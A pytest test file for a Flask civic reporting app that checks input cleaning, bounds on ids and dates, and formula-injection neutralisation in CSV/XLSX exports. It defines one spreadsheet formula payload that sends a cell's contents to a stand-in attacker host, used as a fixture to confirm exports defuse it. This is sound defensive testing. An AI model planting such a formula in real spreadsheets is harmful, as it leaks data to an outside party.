"""Bad input and faults: ids beyond the database's integers, Unicode digits, NUL and control characters,
far-off dates and NaN get a 4xx (or are cleaned) with nothing half-saved; and what is already stored can never
break an export — every CSV/XLSX text cell is neutralised against formula injection, numbers stay numbers."""
import csv
import io
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, update
from werkzeug.datastructures import MultiDict
from wtforms import DateField, DateTimeLocalField, DecimalField, IntegerField, StringField, TextAreaField

from app.indicators import xlsx
from app.indicators.queries import catalogue_indicators
from app.org.models import Bureau, PlaceLevel
from app.surveys.models import SurveyAnswer
from app.surveys.services import ordered_questions
from app.tips.models import Tip
from app.web import exports
from app.web.forms import BaseForm
from app.web.params import DB_INT_MAX, db_int, page_number
from app.web.text import clean_text, xml_safe
from tests import factories
from tests.open311.conftest import api_key  # noqa: F401  (fixture)
from tests.tips.conftest import LONGITUDE, city  # noqa: F401  (fixture)

CONTROLS = "".join(chr(c) for c in range(32) if c not in (9, 10, 13))


# Parsing helpers.

@pytest.mark.parametrize("text", ["²", "٣", "1²", "１２", str(DB_INT_MAX + 1),
                                  str(-(2**31) - 1), "1e3", "", " ", "0x1"])
def test_db_int_refuses_what_is_not_an_ascii_integer_of_the_database(text):
    with pytest.raises(ValueError):
        db_int(text)


def test_db_int_and_page_number_accept_ordinary_numbers():
    assert db_int("42") == 42 and db_int("-7") == -7 and db_int(str(DB_INT_MAX)) == DB_INT_MAX
    assert [page_number(v) for v in ("3", "0", "-2", "²", "100001", None, "abc")] == [3, 1, 1, 1, 1, 1, 1]


def test_clean_text_drops_c0_controls_but_keeps_tab_and_newline():
    assert clean_text(f"a{CONTROLS}b\tc\r\nd\re") == "ab\tc\nd\ne"
    assert clean_text(None) is None and clean_text(5) == 5
    assert xml_safe("a\x0b\x00b\ufffe") == "ab"


# URLs: path ids and query parameters.

@pytest.mark.parametrize("url", ["/notices/2147483648", "/notices/9223372036854775808", "/surveys/2147483648",
                                 "/surveys/2147483648/results", "/api/v1/surveys/2147483648/results",
                                 "/tips/photos/2147483648", "/indicators/evidence/99999999999999999999",
                                 "/notices/attachments/2147483648", "/sitemap-2147483648.xml",
                                 "/disclosure/annual-report/99999999999"])
def test_ids_beyond_the_database_integer_are_not_found(client, url):
    assert client.get(url).status_code == 404


@pytest.mark.parametrize("url", ["/indicators/a%00b", "/notices/categories/%00/feed.atom", "/tips/track/AB%0BC",
                                 "/open311/v2/services/air%00.xml"])
def test_control_characters_in_a_path_segment_are_not_found(client, url):
    assert client.get(url).status_code == 404


@pytest.mark.parametrize("url", [
    "/tips/?page=²&district=99999999999999&category=٣",
    "/tips/?page=999999999999999999999",
    "/tips/stats?year=9999999999&district=²",
    "/tips/stats?year=1",
    "/tips/nearby?district=99999999999&categories=²&categories=99999999999",
    "/exposure?page=99999999999999999999",
    "/notices/?year=²&q=a%00b%0Bc",
    "/notices/?page=²&bureau=%00&category=%00&district=%00",
    "/surveys/?page=99999999999999999999",
    "/open311/v2/requests.xml?page=99999999999999&page_size=²",
    "/open311/v2/requests.json?service_request_id=%00,2147483648&service_code=%00",
])
def test_bounded_and_cleaned_query_parameters_never_fail(client, url):
    assert client.get(url).status_code in (200, 400)


@pytest.mark.parametrize("start", ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00", "0001-01-01",
                                   "9999-12-31"])
def test_open311_dates_of_year_1_or_9999_are_a_400(client, start):
    response = client.get(f"/open311/v2/requests.json?start_date={start}&lang=en")
    assert response.status_code == 400
    assert "start_date" in response.get_json()[0]["description"]


def test_request_parameters_reach_views_without_control_characters(app):
    with app.test_request_context("/?q=a%00b%0Bc%0D%0Ad", method="POST", data={"text": "x\x00y\x1b\r\nz"}):
        from flask import request

        assert request.args["q"] == "abc\nd" and request.form["text"] == "xy\nz"


# The base form's guards, for every field of its kind.

class _Probe(BaseForm):
    class Meta:
        csrf = False

    name = StringField()
    body = TextAreaField(filters=[lambda v: v.upper() if v else v])
    amount = DecimalField(places=None)
    count = IntegerField()
    day = DateField()
    moment = DateTimeLocalField()


def _probe(app, **data):
    with app.test_request_context("/?lang=en", method="POST", data=data):
        form = _Probe(MultiDict(data))
        form.validate()
        return form


def test_base_form_cleans_every_text_field_before_its_own_filters(app):
    form = _probe(app, name="张\x00三\x0b", body="a\x1fb\r\nc")
    assert form.name.data == "张三" and form.body.data == "AB\nC" and not form.errors


@pytest.mark.parametrize("value", ["NaN", "sNaN", "Infinity", "-Infinity", "-NaN"])
def test_base_form_refuses_numbers_that_are_not_finite(app, value):
    form = _probe(app, amount=value)
    assert form.errors == {"amount": ["Enter a number."]} and form.amount.data is None


def test_base_form_refuses_integers_the_database_cannot_hold(app):
    assert _probe(app, count=str(DB_INT_MAX + 1)).errors == {"count": ["Enter a smaller number."]}
    assert _probe(app, count=str(DB_INT_MAX)).errors == {}


@pytest.mark.parametrize("field,value", [("day", "0001-01-01"), ("day", "9999-12-31"), ("moment", "0001-01-01T00:00"),
                                         ("moment", "9999-12-31T23:59")])
def test_base_form_refuses_dates_outside_1900_to_2100(app, field, value):
    assert _probe(app, **{field: value}).errors == {field: ["Enter a date between 1900 and 2100."]}


def test_base_form_messages_are_in_the_users_language(app):
    with app.test_request_context("/?lang=zh_Hant", method="POST"):
        form = _Probe(MultiDict({"amount": "sNaN", "day": "0001-01-01"}))
        form.validate()
        assert form.errors == {"amount": ["請輸入數字。"], "day": ["請輸入 1900 年至 2100 年之間的日期。"]}


# Forms end to end: 422 with the input kept and nothing stored, or the text stored clean.

def _tip_form(city, **changes):
    data = {"categories": [str(city.air.id)], "description": "化工厂夜间排放黄色烟雾，气味刺鼻",
            "district": str(city.district.id), "address": "和平大道100号", "identity": "anonymous", "consent": "y"}
    data.update(changes)
    return data


@pytest.mark.parametrize("changes", [{"latitude": "sNaN", "longitude": "114.3"},
                                     {"latitude": "NaN", "longitude": "NaN"},
                                     {"observed_at": "0001-01-01T00:00"}, {"observed_at": "9999-12-31T23:59"}])
def test_tip_form_answers_nan_and_far_dates_with_422_and_stores_nothing(client, csrf, session, city, changes):
    data = {**_tip_form(city, **changes), "csrf_token": csrf.token(client, "/tips/new")}
    response = client.post("/tips/new?lang=en", data=data, content_type="multipart/form-data")
    assert response.status_code == 422
    body = response.get_data(as_text=True)
    assert "化工厂夜间排放黄色烟雾" in body and ("Enter a number." in body or "between 1900 and 2100" in body)
    assert session.scalar(select(func.count(Tip.id))) == 0


def test_tip_text_is_stored_without_control_characters(client, csrf, session, city):
    data = {**_tip_form(city, description="工厂\x00夜间\x0b冒黑烟\r\n气味刺鼻", address="和平\x00大道\x1b1号"),
            "csrf_token": csrf.token(client, "/tips/new")}
    response = client.post("/tips/new", data=data, content_type="multipart/form-data")
    assert response.status_code == 303
    tip = session.scalars(select(Tip)).one()
    assert (tip.description, tip.address) == ("工厂夜间冒黑烟\n气味刺鼻", "和平大道1号")


# Exports: a stored control character never breaks them; text is never a formula; numbers stay numbers.

INJECTION = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'


@pytest.fixture
def admin(client, auth, staff, csrf):
    auth.login("admin")
    return csrf.token(client, "/admin/")


@pytest.fixture
def tainted_survey(session, staff):
    """A survey whose stored answers carry a formula and a vertical tab, as before the forms cleaned them."""
    survey = factories.survey(session, staff["admin"], responses=2)
    suggestion = ordered_questions(survey)[4]
    first, second = session.scalars(
        select(SurveyAnswer.response_id).distinct().order_by(SurveyAnswer.response_id)).all()
    session.add_all([SurveyAnswer(response_id=first, question_id=suggestion.id, text=INJECTION),
                     SurveyAnswer(response_id=second, question_id=suggestion.id, text="多种\x0b树-@+")])
    session.commit()
    return survey, suggestion


def test_survey_xlsx_export_writes_answers_as_text_never_as_formulas(client, admin, tainted_survey):
    survey, suggestion = tainted_survey
    response = client.get(f"/admin/surveys/{survey.id}/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    column = [c.value for c in sheet[1]].index(suggestion.code) + 1
    cells = [sheet.cell(row=r, column=column) for r in (2, 3)]
    assert [c.value for c in cells] == ["'" + INJECTION, "多种树-@+"]
    assert all(c.data_type == "s" for c in cells)
    assert isinstance(sheet.cell(row=2, column=1).value, int)  # the response id stays a number


def test_survey_csv_export_neutralises_formulas_with_one_charset(client, admin, tainted_survey):
    survey, suggestion = tainted_survey
    response = client.get(f"/admin/surveys/{survey.id}/export.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    column = rows[0].index(suggestion.code)
    assert [rows[1][column], rows[2][column]] == ["'" + INJECTION, "多种树-@+"]


@pytest.fixture
def indicator_world(session, staff):
    home = staff["bureaus"]["home"]
    city_place = factories.place(session, level=PlaceLevel.CITY, code="city", name_zh_hans="云溪市")
    catalogue = factories.catalogue(session, lead_bureau=home)
    waste = {i.code: i for i in catalogue_indicators(session, catalogue)}["2"]
    factories.approved_value(session, waste.measures[0], city_place, numeric_value=Decimal("92.5"))
    session.commit()
    # Stored before the forms cleaned text: a vertical tab and a formula in the bureau's name.
    session.execute(update(Bureau).where(Bureau.id == home.id).values(name_zh_hans="=市生态\x0b环境局"))
    session.commit()
    return waste


def test_indicator_xlsx_export_survives_a_stored_control_character_and_keeps_numbers(client, indicator_world):
    response = client.get("/indicators/?period=2025&format=xlsx&lang=zh_Hans")
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.data)).active.values)
    waste = next(row for row in rows if row[1] == indicator_world.name_zh_hans)
    assert waste[7] == 92.5 and isinstance(waste[7], float)  # a number, not numeric text
    assert waste[10] == "'=市生态环境局"


def test_indicator_csv_export_has_one_charset_and_neutralised_text(client, indicator_world):
    response = client.get("/indicators/?period=2025&format=csv&lang=zh_Hans")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    waste = next(row for row in rows if row[1] == indicator_world.name_zh_hans)
    assert waste[7] == "92.5" and waste[10] == "'=市生态环境局"


def test_gap_report_docx_is_a4_and_survives_a_stored_control_character(client, session, indicator_world):
    session.execute(update(Bureau).values(name_zh_hans="市\x0b局"))
    place = session.scalars(select(factories.Place)).first()
    place.name_zh_hans = "云溪\x0b市"
    session.commit()
    response = client.get("/indicators/report?period=2025&format=docx&lang=zh_Hans")
    assert response.status_code == 200
    section = Document(io.BytesIO(response.data)).sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)  # A4, not Letter


def test_open311_xml_stays_well_formed_with_a_stored_control_character(client, session, city):
    tip = factories.tip(session, bureau_=city.home, district=city.district)
    session.commit()
    session.execute(update(Tip).where(Tip.id == tip.id).values(address="和平\x0b大道\x01100号"))
    session.commit()
    response = client.get("/open311/v2/requests.xml")
    assert response.status_code == 200
    root = ElementTree.fromstring(response.get_data(as_text=True).split("\n", 1)[1])
    assert "和平大道" in root.find("request/address").text


def test_xlsx_rates_are_numbers_shown_as_percentages():
    body = exports.xlsx_bytes("report", ["item", "rate"], [["on time", exports.Percent(0.875)]])
    rate = load_workbook(io.BytesIO(body)).active.cell(row=2, column=2)
    assert rate.value == 0.875 and rate.number_format == "0.0%"
    assert exports.csv_row(["on time", exports.Percent(0.875)]) == ["on time", "87.5%"]


# The shared export helper and the imports.

def test_export_cells_neutralise_formula_starts_and_keep_numbers():
    assert [exports.cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", "a=b")] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", "a=b"]
    assert [exports.cell(v) for v in (-1, 2.5, Decimal("3.10"), None, True)] == [-1, 2.5, Decimal("3.10"), "", 1]
    assert exports.csv_row([Decimal("100.0000"), Decimal("1E+2"), "-5"]) == ["100", "100", "'-5"]


def test_xlsx_import_drops_control_characters_from_every_cell():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["code", "name"])
    sheet.append(["A_x000B_1", "市_x0001_局"])  # how XLSX escapes control characters in its XML
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    assert xlsx.read_rows(buffer) == [{"code": "A1", "name": "市局"}]


def test_xlsx_import_refuses_a_sheet_whose_xml_is_ill_formed():
    workbook = Workbook()
    workbook.active.append(["code", "CONTROL"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source, patched = zipfile.ZipFile(io.BytesIO(buffer.getvalue())), io.BytesIO()
    with zipfile.ZipFile(patched, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            target.writestr(name, data.replace(b"CONTROL", b"CON\x0bTROL") if name.endswith("sheet1.xml") else data)
    patched.seek(0)
    with pytest.raises(xlsx.SheetError):
        xlsx.read_rows(patched)


def test_an_option_saved_without_a_label_gets_the_message_not_a_500(client, session, staff, admin):
    survey = factories.survey(session, staff["admin"], state="draft")
    session.commit()
    option = ordered_questions(survey)[1].options[0]
    response = client.post(f"/admin/surveys/options/{option.id}?lang=en",
                           data={"csrf_token": admin, f"o{option.id}-label_zh_hans": "\x00",
                                 f"o{option.id}-weight": "sNaN"})
    assert response.status_code == 303
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Check the option" in page and "Enter a number." in page


@pytest.mark.parametrize("lat", ["30.55", "NaN", "sNaN", "Infinity"])
def test_open311_requests_are_stored_without_control_characters_and_refuse_nan(client, session, city, api_key, lat):
    response = client.post("/open311/v2/requests.json?lang=en", data={
        "api_key": api_key[1], "service_code": "air", "lat": lat, "long": str(LONGITUDE),
        "description": "化工厂\x00夜间\x0b排放黄色烟雾\r\n气味刺鼻", "address_string": "和平\x1b大道100号"})
    if lat == "30.55":
        assert response.status_code == 200, response.get_data(as_text=True)
        tip = session.scalars(select(Tip)).one()
        assert (tip.description, tip.address) == ("化工厂夜间排放黄色烟雾\n气味刺鼻", "和平大道100号")
    else:
        assert response.status_code == 400
        assert session.scalar(select(func.count(Tip.id))) == 0


def test_survey_text_answers_are_stored_without_control_characters(client, session, staff):
    from tests.surveys.test_views import _answers, _form

    survey = factories.survey(session, staff["admin"], mode="open")
    session.commit()
    suggestion = ordered_questions(survey)[4]
    hidden, _html = _form(client, f"/surveys/{survey.id}")
    response = client.post(f"/surveys/{survey.id}", data={
        **hidden, **_answers(survey, **{suggestion.field_name: "多种\x00树\x0b，少开车\r\n谢谢"})})
    assert response.status_code == 303
    stored = session.scalar(select(SurveyAnswer.text).where(SurveyAnswer.question_id == suggestion.id))
    assert stored == "多种树，少开车\n谢谢"
